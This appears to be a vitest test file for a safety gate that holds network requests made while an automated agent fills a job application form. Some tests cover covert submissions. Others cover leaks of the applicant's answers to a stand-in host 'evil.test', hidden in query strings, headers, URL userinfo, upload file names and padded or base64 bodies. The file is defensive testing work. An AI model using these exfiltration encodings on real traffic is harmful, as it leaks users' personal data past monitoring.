import { describe, expect, it } from 'vitest';
import type { GatedRequest } from '@/safety/requests/gated-request';
import { createFillJudge } from '@/safety/requests/judge-fill';
import { call, site } from './a-request';

const answers = {
  firstName: 'Ottilie',
  lastName: 'Quarrelwood',
  email: 'ottilie.quarrelwood@vexmail.example',
  phone: '+44 20 7946 0958',
  birthday: '1987-04-23',
  street: '17 Penhallow Crescent',
  company: 'Brackenridge Analytics Ltd',
};

/** A form whose fields were saved one by one, as its page does by itself: what is wanted for a send is there. */
function aSavedForm(before: readonly GatedRequest[] = []) {
  const judge = createFillJudge('', () => 0);
  judge.setOrigin(site);
  for (const request of before) judge.isHeld(request);
  for (const [name, value] of Object.entries(answers)) {
    judge.addAnswer(value, true);
    judge.isHeld(call('PATCH', '/api/drafts', { field: name, value }));
    judge.endAnswer();
  }
  judge.addFile('cv.pdf', new TextEncoder().encode('%PDF-1.7 CV'));
  return judge;
}

const graphql = (query: string, more: object = {}) => call('POST', '/graphql', { query, ...more });
const aFile = (content: string, name: string) =>
  `--x7\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n${content}\r\n--x7--\r\n`;
const unseen: Partial<GatedRequest> = { isBodyWhole: false };
const text = String(new URLSearchParams(answers));

describe('what honest pages ask for passes', () => {
  const later = 'POST';
  it.each<[string, GatedRequest]>([
    ['a field that is saved again', call('PATCH', '/api/drafts', { field: 'company', value: answers.company })],
    ['a tick that is saved where fields are', call('PATCH', '/api/drafts', { field: 'remote', value: true })],
    ['a field that was emptied', call('PATCH', '/api/drafts', { field: 'company', value: '' })],
    ['a draft that grows', call('PUT', '/api/applications/42/draft', answers)],
    ['autosave by its name', call(later, '/autosave', answers)],
    [
      'a draft of GraphQL',
      graphql('mutation saveDraft($d: In) { saveDraft(d: $d) { id } }', {
        operationName: 'saveDraft',
        variables: answers,
      }),
    ],
    ['a query of GraphQL', graphql('query Job { job(id: 42) { id } }', { variables: {} })],
    ['a query without a name', graphql('{ countries { code } }')],
    ['a query that is named like an action', graphql('query SubmitOptions { options { id } }')],
    ['places by POST', call(later, '/api/places', { q: 'Penh' })],
    ['autocompletion', call(later, '/api/address/autocomplete', { text: 'Pen' })],
    ['suggestions', call('GET', '/suggest?q=Quarr')],
    ['skills', call(later, '/api/skills/search', { term: 'type' })],
    ['schools', call('GET', '/api/schools?q=uni')],
    ['whether somebody is known', call(later, '/api/candidates/exists', { email: answers.email })],
    ['a check of a field', call(later, '/validate', { email: answers.email })],
    ['a check on the server', call(later, '/api/forms/validate-field', { name: 'phone', ok: true })],
    [
      'a place to upload to',
      call(later, '/api/uploads/presign', { name: 'cv.pdf', size: 1200, type: 'application/pdf' }),
    ],
    ['an upload', call(later, '/api/cv/upload', aFile('%PDF-1.7 CV', 'cv.pdf'))],
    ['an upload that nobody sees', call(later, '/api/upload', aFile('', 'cv.pdf'), unseen)],
    ['the end of an upload', call(later, '/api/uploads/17/complete', {})],
    ['a CV that is read', call(later, '/api/resume/parse', { fileId: 'f81d4fae7dec' })],
    ['telemetry', call(later, '/track', { event: 'change', field: 'email' })],
    ['telemetry of a framework', call(later, '/_vercel/insights/event', { o: site, sv: '0.1.2' })],
    ['web vitals', call(later, '/rum/vitals', { name: 'CLS', value: 0.1 }, { resourceType: 'Ping' })],
    ['errors', call(later, '/api/17/envelope/', '{"sdk":{"name":"x"}}')],
    ['logs', call(later, '/log', { level: 'warn', at: 17 })],
    ['somebody else’s telemetry', call(later, 'https://metrics.example.net/v1/p', { e: 'input' })],
    ['somebody else’s pixel', call('GET', 'https://px.example.net/c.gif?e=change', '', { resourceType: 'Image' })],
    ['a heartbeat', call(later, '/heartbeat', { at: 17 })],
    ['a session that goes on', call(later, '/api/session/refresh', {})],
    ['a token', call(later, '/oauth/token', 'grant_type=refresh_token')],
    ['a human check', call(later, 'https://www.recaptcha.example.net/api2/reload', 'k=1')],
    ['the place in the form', call(later, '/api/progress', { step: 2 })],
    ['a page’s own poll', call(later, '/api/v3/zq', { k: 1 })],
    ['a service by its name', call('GET', '/api/questions?step=2')],
    ['a part of the program', call('GET', '/assets/submit-form.3f2a.js', '', { resourceType: 'Script' })],
    ['an icon', call('GET', '/icons/send.svg', '', { resourceType: 'Image' })],
    ['words of the form', call('GET', '/locales/en.json')],
    ['what to say at the end', call('GET', '/api/forms/submit-config')],
    ['pictures', call('GET', '/img/hero.png', '', { resourceType: 'Image' })],
    ['a map of somewhere', call('GET', 'https://maps.example.net/tiles/8/130/84.png', '', { resourceType: 'Image' })],
    ['RPC that asks', call(later, '/rpc', { jsonrpc: '2.0', method: 'getCountries', params: [], id: 1 })],
    ['what WordPress is asked', call(later, '/wp-admin/admin-ajax.php', 'action=get_cities&country=GB')],
    [
      'a country of ASP.NET',
      call(later, '/apply', '__VIEWSTATE=abcdefghijkl&__EVENTTARGET=c&c=GB', { headers: { referer: `${site}/apply` } }),
    ],
  ])('%s', (_, request) => {
    expect(aSavedForm([call('POST', '/api/v3/zq', { k: 0 })]).isHeld(request)).toBe(false);
  });
});

describe('what was saved is sent by no word', () => {
  const words = [
    'submit',
    'submitted',
    'SUBMITTED',
    'applied',
    'sent',
    'final',
    'complete',
    'submitApplication',
    'eingereicht',
    'envoyée',
    'отправлено',
    '送信',
  ];
  const ways: Record<string, (word: string) => GatedRequest> = {
    'a status': (word) => call('PATCH', '/api/applications/42', { status: word }),
    'a state where drafts go': (word) => call('PATCH', '/api/drafts', { state: word }),
    'a nested action': (word) => call('POST', '/api/rpc', { data: { action: word, id: 42 } }),
    'an address': (word) => call('POST', `/applications/42/${encodeURIComponent(word)}`, { id: 42 }),
    'a query': (word) => call('POST', `/api/drafts?event=${encodeURIComponent(word)}`, { field: 'x', value: '' }),
    'beside an answer': (word) =>
      call('PATCH', '/api/drafts', { field: 'company', value: answers.company, status: word }),
    'a beacon': (word) => call('POST', '/track', { action: word }, { resourceType: 'Ping' }),
    'a draft’s name': (word) => call('PUT', '/api/draft', { ...answers, stage: word }),
  };
  const all = Object.entries(ways).flatMap(([way, make]) => words.map((word) => [way, word, make(word)] as const));

  it.each(all)('%s: %s', (_, __, request) => {
    expect(aSavedForm().isHeld(request)).toBe(true);
  });

  it.each<[string, GatedRequest]>([
    ['a flag', call('POST', '/api/drafts', { submit: true })],
    ['a flag of one letter more', call('POST', '/api/draft', { isFinal: 1 })],
    ['a moment', call('PATCH', '/api/drafts', { submittedAt: '2026-11-23T10:00:00Z' })],
    ['a header', call('POST', '/api/draft', { id: 42 }, { headers: { 'x-action': 'submitApplication' } })],
    ['an address that is asked for', call('GET', '/applications/42/submit')],
    ['a picture', call('GET', '/applications/42/submit?t=1', '', { resourceType: 'Image' })],
    ['a flag of an address', call('GET', '/applications/42?submit=1')],
    ['a name in an address', call('GET', '/applications/42?submit')],
    ['a mutation by another name', graphql('mutation M($id: ID!) { a: submitApplication(id: $id) { id } }')],
    ['a mutation without a word', graphql('mutation { zq(id: 42) { id } }')],
    ['a word that nobody knows', call('POST', '/applications/42/zqx', { id: 42 })],
    ['nothing at all', call('POST', '/applications/42')],
    ['a state that nobody knows', call('PATCH', '/api/applications/42', { s: 'zq7' })],
    ['as if a control had changed', call('POST', '/applications', `${text}&__EVENTTARGET=email`)],
    ['in JSON', call('POST', '/api/v2/people', { ...answers, 'javax.faces.source': 'email' })],
    ['a file that is none', call('POST', '/api/upload', aFile(JSON.stringify(answers), 'blob'))],
    ['a file that nobody sees', call('POST', '/api/v2/people', aFile('', 'blob'), unseen)],
    ['behind what is long', call('POST', '/api/v2/people', { d: 'x'.repeat(25_000) + text })],
    ['behind what is very long', call('POST', '/api/v2/people', { d: 'x'.repeat(2_500_000) + btoa(text) })],
    ['the form’s host under another name', call('POST', 'https://api.example.org/applications/42', { id: 42 })],
  ])('%s', (_, request) => {
    expect(aSavedForm().isHeld(request)).toBe(true);
  });
});

describe('nothing of the answers goes elsewhere', () => {
  const evil = 'https://evil.test/c';
  const said = (value: string) => `${evil}?d=${encodeURIComponent(value)}`;
  const header = (name: string, value: string) => call('GET', evil, '', { headers: { [name]: value } });
  it.each<[string, GatedRequest]>([
    ...[
      '23/04/1987',
      '04-23-1987',
      '23.4.1987',
      '23 April 1987',
      'Apr 23, 1987',
      '19870423',
      String(Date.UTC(1987, 3, 23)),
    ].map((value): [string, GatedRequest] => [`a date as ${value}`, call('GET', said(value))]),
    ...[
      'Penhallow Crescent',
      'Penhallow',
      'Brackenridge',
      'ottilie.quarrelwood',
      '020 7946 0958',
      '0044-20-79460958',
    ].map((value): [string, GatedRequest] => [value, call('GET', said(value))]),
    ...[
      'accept-language',
      'accept-x',
      'content-type',
      'cache-control',
      'sec-required-csp',
      'referer',
      'x-d',
      'range',
    ].map((name): [string, GatedRequest] => [`a header: ${name}`, header(name, `a ${answers.lastName}`)]),
    ['a header’s name', header(`x-${answers.lastName}`, '1')],
    ['a user of an address', call('GET', `https://${btoa(text).replaceAll(/[=+/]/g, '')}:x@evil.test/`)],
    ['a file that is none', call('POST', evil, aFile(JSON.stringify(answers), 'cv.pdf'))],
    ['the name of a file', call('POST', evil, aFile('%PDF-1.7 CV', btoa(text)))],
    ['the CV', call('PUT', `${evil}?signature=${'a'.repeat(40)}`, '%PDF-1.7 CV')],
    ['behind what is long', call('POST', evil, { d: 'x'.repeat(25_000) + text })],
    ['behind what is very long', call('POST', evil, { d: 'x'.repeat(400_000) + btoa(text) })],
  ])('%s', (_, request) => {
    expect(aSavedForm().isHeld(request)).toBe(true);
  });

  it('takes no common word for one of them, and none that was said before', () => {
    expect(aSavedForm().isHeld(call('GET', said('limited crescent-moon analysis')))).toBe(true);
    expect(aSavedForm().isHeld(call('GET', said('Ltd 17 limited')))).toBe(false);
    const judge = aSavedForm([call('GET', said('Brackenridge'))]);
    expect(judge.isHeld(call('GET', said('Brackenridge')))).toBe(false);
  });
});

describe('while the form goes on', () => {
  function goingOn({ isUnsure = false } = {}) {
    const judge = aSavedForm();
    judge.beginGoingOn(isUnsure);
    return judge;
  }
  const form: Partial<GatedRequest> = { resourceType: 'Document', cause: 'form' };

  it('its page is sent, once', () => {
    const judge = goingOn();
    expect(judge.isHeldGoingOn(call('PUT', '/api/applications/42/steps/1', answers))).toBe(false);
    expect(judge.isHeldGoingOn(call('POST', '/api/v2/people', answers))).toBe(true);
    expect(goingOn().isHeldGoingOn(call('POST', '/apply/step-2', text, form))).toBe(false);
    expect(goingOn().isHeldGoingOn(call('GET', '/api/questions?step=2'))).toBe(false);
  });

  it('no application is made where nothing says that pages follow', () => {
    const isHeld = (request: GatedRequest, isUnsure: boolean) => goingOn({ isUnsure }).isHeldGoingOn(request);
    const made = call('POST', '/api/v2/applications', answers);
    expect([isHeld(made, false), isHeld(made, true)]).toEqual([false, true]);
    expect(isHeld(call('PUT', '/api/applications/42/steps/1', answers), true)).toBe(false);
  });

  it.each<[string, GatedRequest]>([
    ['a field that was put in late', call('POST', '/apply/step-2', `${text}&status=submitted`, form)],
    ['a button', call('POST', '/apply/step-2', `${text}&commit=Submit+application`, form)],
    ['a flag', call('POST', '/apply/step-2', `${text}&is_final=1`, form)],
    ['a picture', call('GET', '/applications/42/submit', '', { resourceType: 'Image' })],
    ['a request without answers', call('PATCH', '/api/applications/42', { s: 'zq' })],
    ['a status', call('PATCH', '/api/applications/42', { status: 'submitted' })],
  ])('nothing is sent by %s', (_, request) => {
    expect(goingOn().isHeldGoingOn(request)).toBe(true);
  });
});

describe('an address to upload to', () => {
  it('is asked for, in a request that says nothing', () => {
    expect(aSavedForm().isHeld(call('POST', '/api/presign', ''))).toBe(false);
    expect(aSavedForm().isHeld(call('POST', '/api/sign', ''))).toBe(true);
  });

  it.each<[string, GatedRequest]>([
    ['the end of what was presigned', call('POST', '/applications/42/presigned/finalize')],
    ['the end, by its number', call('POST', '/api/presign/42/finish')],
    ['a contract', call('POST', '/contracts/presign/confirm')],
    ['an application', call('POST', '/presign/applications/42', { id: 42 })],
    ['all answers', call('POST', '/api/presign', { d: JSON.stringify(answers) })],
    ['all answers, encoded', call('POST', '/api/presign', { d: btoa(JSON.stringify(answers)) })],
  ])('is no reason to send %s', (_, request) => {
    expect(aSavedForm().isHeld(request)).toBe(true);
  });
});
